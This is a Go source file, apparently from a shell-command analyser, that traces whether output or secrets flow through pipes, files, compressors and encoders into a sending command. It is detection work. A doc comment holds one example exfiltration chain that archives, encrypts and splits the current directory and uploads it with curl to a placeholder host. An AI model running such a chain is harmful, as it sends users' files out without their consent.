package flow

import (
	"slices"

	"github.com/agent-loop/shimgen/grammar"
	"github.com/agent-loop/shimgen/grammar/spec"
	"github.com/agent-loop/shimgen/internal/wordlist"
	"github.com/agent-loop/shimgen/parser"
)

// maxCarried bounds the files through which a text is followed.
const maxCarried = 16

// IsSentBy reports whether an invocation for which takes returns true gets what another prints or
// writes: through pipes, and through files that commands between them make of it.
//
//	tar cz . | gpg -c > f; split f g; curl -T g http://h/
func (g *Graph) IsSentBy(v *grammar.Invocation, takes func(u *grammar.Invocation) bool) bool {
	if takes(v) { // code that packs and sends
		return true
	}
	files, sent := g.carriedBy(v, takes)
	after := false
	for u := range grammar.All(g.invs) {
		if slices.Contains(u.Nested, v) && wordlist.Among(u.Name, interpreters) && takes(u) {
			return true // its code reads what the program prints or writes, and sends it itself
		}
		if sent || len(files) > maxCarried {
			return sent
		}
		if after && g.getsAny(u, files) {
			if takes(u) {
				return true
			}
			more, taken := g.carriedBy(u, takes)
			files, sent = append(files, more...), taken
		}
		after = after || u == v
	}
	return sent
}

// carriedBy returns the files that an invocation writes, or those that read its output, and whether one of
// these takes it.
func (g *Graph) carriedBy(v *grammar.Invocation, takes func(u *grammar.Invocation) bool) (files []string, taken bool) {
	readers := []*parser.Command{}
	for c := v.Command; c != nil; c = c.Outer {
		readers = append(readers, c)
	}
	files = g.writtenAround(v)
	for step := 0; step < maxFilters && len(readers) > 0; step++ {
		var next []*parser.Command
		for w := range grammar.All(g.invs) {
			if slices.Contains(readers, w.Command) || !slices.ContainsFunc(readers, func(c *parser.Command) bool { return readsOutput(w.Command, c) }) {
				continue
			}
			if takes(w) {
				return files, true
			}
			files = append(files, g.written(w)...)
			next = append(next, w.Command)
		}
		readers = next
	}
	return files, false
}

// writtenAround returns the files that an invocation writes, and those that the commands which run it write:
// env x > f.
func (g *Graph) writtenAround(v *grammar.Invocation) (files []string) {
	files = g.written(v)
	for c := v.Command.Outer; c != nil; c = c.Outer {
		if u := g.invocation(c); u != nil {
			files = append(files, g.written(u)...)
		}
	}
	return files
}

// program returns what a command runs in its own place, behind env, nice and the like; nil if that is not
// known.
func (g *Graph) program(c *parser.Command) *grammar.Invocation {
	v := g.invocation(c)
	for v != nil && len(v.Nested) == 1 && !encodes(v) {
		v = v.Nested[0]
	}
	return v
}

// written returns the files that an invocation writes.
func (g *Graph) written(v *grammar.Invocation) (files []string) {
	for i := range v.Effects {
		if e := &v.Effects[i]; e.Kind&grammar.Writes != 0 {
			if file, known := g.path(v, e.Word); known && file != "/dev/null" {
				files = append(files, file)
			}
		}
	}
	if ending := compressed(v.Name); ending != "" {
		for _, o := range v.Operands {
			if file, known := g.path(v, o.Word); known {
				files = append(files, file+ending)
			}
		}
	}
	return files
}

// compressed returns what a program adds to the name of a file that it compresses in its place, or "".
func compressed(program string) string {
	switch program {
	case "gzip", "pigz":
		return ".gz"
	case "bzip2":
		return ".bz2"
	case "xz":
		return ".xz"
	case "zstd":
		return ".zst"
	case "gpg":
		return ".gpg"
	}
	return ""
}

// getsAny reports whether an invocation reads or sends one of some files.
func (g *Graph) getsAny(v *grammar.Invocation, files []string) bool {
	for i := range v.Effects {
		e := &v.Effects[i]
		if e.Kind&(grammar.Reads|grammar.Uploads|grammar.Mentions|grammar.Deletes) == 0 {
			continue
		}
		if file, known := g.path(v, e.Word); known && slices.ContainsFunc(files, func(f string) bool { return g.sameFile(f, file) }) {
			return true
		}
	}
	return compressed(v.Name) != "" && slices.ContainsFunc(v.Operands, func(o grammar.Operand) bool {
		file, known := g.path(v, o.Word)
		return known && slices.ContainsFunc(files, func(f string) bool { return g.sameFile(f, file) })
	})
}

// spellers are the programs that print their words, and changers those that print their input in another
// form, or a part of it: what was secret in it still is. A digest is not.
const (
	spellers = "echo printf print"
	changers = "cat tac tee head tail less more sort uniq nl rev paste fold fmt column cut tr sed awk grep base64 base32 basenc xxd od hexdump gzip bzip2 xz zstd jq iconv dd pv split uuencode"
)

// encodes reports whether an invocation prints its input in another form.
func encodes(v *grammar.Invocation) bool {
	return wordlist.Among(v.Name, changers) || v.Name == "openssl" && spec.MatchSub("base64 enc", v.Sub)
}

// Prints reports whether one of some commands prints a word for which holds returns true, or the variable
// of the environment that such a word would be, possibly through others that encode it.
func (g *Graph) Prints(from []*parser.Command, holds func(w parser.Word) bool) bool {
	return g.prints(from, holds, maxFilters)
}

func (g *Graph) prints(from []*parser.Command, holds func(w parser.Word) bool, stepsLeft int) bool {
	if stepsLeft == 0 {
		return false
	}
	for _, c := range from {
		v := g.program(c)
		switch {
		case v == nil:
		case wordlist.Among(v.Name, spellers):
			if slices.ContainsFunc(v.Command.Args, func(w parser.Word) bool { return holds(w) || g.prints(w.From(), holds, stepsLeft-1) }) {
				return true
			}
		case v.Name == "printenv":
			for _, o := range v.Operands {
				if name, known := o.Word.Text(); known && holds(parser.Word{Parts: []parser.Part{{Kind: parser.Unknown, Text: "$" + name}}}) {
					return true
				}
			}
		case encodes(v) && (holds(c.Stdin.Word) || g.prints(c.Stdin.From, holds, stepsLeft-1) || g.prints(c.Stdin.Word.From(), holds, stepsLeft-1)):
			return true
		}
	}
	return false
}

// FileHolds reports whether an effect is on a file into which an earlier command prints such a word.
func (g *Graph) FileHolds(v *grammar.Invocation, e *grammar.Effect, holds func(w parser.Word) bool) bool {
	file, known := g.path(v, e.Word)
	if !known {
		return false
	}
	for u := range grammar.All(g.invs) {
		if u == v {
			return false
		}
		if (wordlist.Among(u.Name, spellers) || u.Name == "printenv" || encodes(u)) && slices.ContainsFunc(g.writtenAround(u), func(f string) bool { return g.sameFile(f, file) }) && g.Prints([]*parser.Command{u.Command}, holds) {
			return true
		}
	}
	return false
}
